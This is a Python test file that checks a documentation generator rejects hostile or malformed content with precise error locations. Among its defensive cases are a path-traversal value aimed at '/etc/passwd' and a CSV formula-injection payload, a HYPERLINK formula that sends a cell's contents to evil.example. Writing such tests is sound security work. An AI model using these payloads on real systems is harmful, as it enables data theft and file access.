"""Hostile or clumsy input, one class per row: each gives located problems, once, never a
traceback, never a hang."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from tutoral_gen.cli import main
from tutoral_gen.errors import ContentError
from tutoral_gen.pipeline import Paths, check, generate

from .conftest import SCENARIO
from .test_errors import assert_located

M1 = "content/scenarios/m1.yaml"
CLASS_AS_I1 = "virtual_classes:\n  - {id: i1, minutes: 60, role: tuteur}\n"

CASES: list[tuple[str, dict[str, str | bytes], str, str]] = [
    (
        "a virtual class takes an intervention's id (without regard to case)",
        {M1: SCENARIO + CLASS_AS_I1},
        f"{M1}:14:10: virtual_classes[0].id: ",
        "'i1' is already an intervention's id (in scenario m1)",
    ),
    (
        "training modules whose ids differ only by case",
        {
            "content/training.yaml": "modules:\n  - {id: Accueil, title: A, minutes: 60}\n"
            "  - {id: accueil, title: B, minutes: 60}\n"
        },
        "content/training.yaml:3:10: modules[1].id: ",
        "duplicate module id 'accueil' (also 'Accueil')",
    ),
    (
        "a log file named outside the audit folder",
        {
            "content/audit/audit.yaml": "questions: [Q]\nlog: {file: ../../etc/passwd.csv}\n",
        },
        "content/audit/audit.yaml:2:13: log.file: ",
        "expected a file name ending in .csv, without any folder (log.csv)",
    ),
    (
        "audit guides whose ids differ only by case",
        {
            "content/audit/audit.yaml": "guides:\n"
            "  - {id: Tuteurs, title: A, kind: interview, audience: tutors, questions: [Q]}\n"
            "  - {id: tuteurs, title: B, kind: interview, audience: tutors, questions: [Q]}\n"
        },
        "content/audit/audit.yaml:3:10: guides[1].id: ",
        "duplicate guide id 'tuteurs' (also 'Tuteurs')",
    ),
    (
        "communities whose ids differ only by case",
        {
            "content/communities/Tuteurs.yaml": "title: A\n",
            "content/communities/tuteurs.yaml": "title: B\n",
        },
        "content/communities/tuteurs.yaml: ",
        "duplicate community id 'tuteurs' (also content/communities/Tuteurs.yaml)",
    ),
    (
        "an id ending in a newline",
        {"content/roles.yaml": 'roles:\n  - {id: "tuteur\\n", title: T}\n'},
        "content/roles.yaml:2:10: roles[0].id: ",
        "expected an id made of letters, digits",
    ),
]


@pytest.mark.parametrize(
    ("files", "where", "message"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_hostile_input_is_located(
    make_project: Callable[..., Paths], files: dict[str, str | bytes], where: str, message: str
) -> None:
    assert_located(make_project(files), where, message)


@pytest.mark.parametrize(
    "rel", ["content/project.yaml", "content/roles.yaml", "content/audit/log.csv"]
)
def test_a_file_that_is_not_utf8_is_one_problem(
    make_project: Callable[..., Paths], rel: str
) -> None:
    files: dict[str, str | bytes] = {rel: b"title: caf\xe9\n"}
    if rel.endswith(".csv"):
        files["content/audit/audit.yaml"] = "questions: [Q]\n"
    paths = make_project(files)
    with pytest.raises(ContentError) as caught:
        check(paths)
    about = [str(p) for p in caught.value.problems if p.file == rel]
    assert len(about) == 1 and "not UTF-8" in about[0], about


def test_a_fifo_is_refused_without_being_opened(make_project: Callable[..., Paths]) -> None:
    paths = make_project()
    (paths.content / "pages").mkdir(exist_ok=True)
    os.mkfifo(paths.content / "pages" / "pipe.md")  # opening it would block for ever
    with pytest.raises(ContentError) as caught:
        check(paths)
    assert [str(p) for p in caught.value.problems] == [
        "content/pages/pipe.md: not a regular file (a FIFO, a device or a socket); it is not read"
    ]


def test_links_to_folders_and_to_nothing_are_refused(
    make_project: Callable[..., Paths], tmp_path_factory: pytest.TempPathFactory
) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (outside / "secret.md").write_text("# secret\n")
    paths = make_project()
    pages = paths.content / "pages"
    pages.mkdir(exist_ok=True)
    (pages / "elsewhere").symlink_to(outside, target_is_directory=True)
    (pages / "gone.md").symlink_to(Path("/nonexistent/file.md"))
    with pytest.raises(ContentError) as caught:
        check(paths)
    lines = sorted(str(p) for p in caught.value.problems)
    assert lines == [
        "content/pages/elsewhere: a link to a folder is refused;"
        " copy the folder into content/ instead",
        "content/pages/gone.md: links to a file outside content/; copy it instead",
    ]


def test_check_parses_the_project_templates(make_project: Callable[..., Paths]) -> None:
    paths = make_project({"templates/sheet.md.j2": "# {{ i.title }}\n{% if i.title %}\nno end\n"})
    with pytest.raises(ContentError) as caught:
        check(paths)
    lines = [str(p) for p in caught.value.problems]
    assert lines == [
        "templates/sheet.md.j2:3:1: template error: Unexpected end of template."
        " Jinja was looking for the following tags: 'elif' or 'else' or 'endif'."
        " The innermost block that needs to be closed is 'if'."
    ], lines


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_become_formulas(make_project: Callable[..., Paths], start: str) -> None:
    title = f'{start}HYPERLINK("http://evil.example/?"&A1;"click")'
    text = SCENARIO.replace("title: Accueillir", f"title: {json.dumps(title)}")
    paths = make_project({M1: text})
    generate(paths)
    raw = (paths.out / "docs/telechargements/interventions.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    # A spreadsheet runs a cell as a formula when it starts with one of these; none does.
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]
    kept = title.strip()  # a title's surrounding white space is dropped when it is read
    assert ("'" + kept if kept[0] in "=+-@" else kept) in cells  # the text is kept, quoted


def _number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(("value", "code"), [("abc", 2), ("-5", 2), ("1e9", 2), ("", 0)])
def test_source_date_epoch_is_checked(
    make_project: Callable[..., Paths], monkeypatch: pytest.MonkeyPatch, value: str, code: int
) -> None:
    paths = make_project()
    monkeypatch.chdir(paths.root)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", value)
    result = CliRunner().invoke(main, ["check"])
    assert result.exit_code == code, result.output
    if code:
        assert "SOURCE_DATE_EPOCH must be a whole number of seconds" in result.output
        assert "Traceback" not in result.output
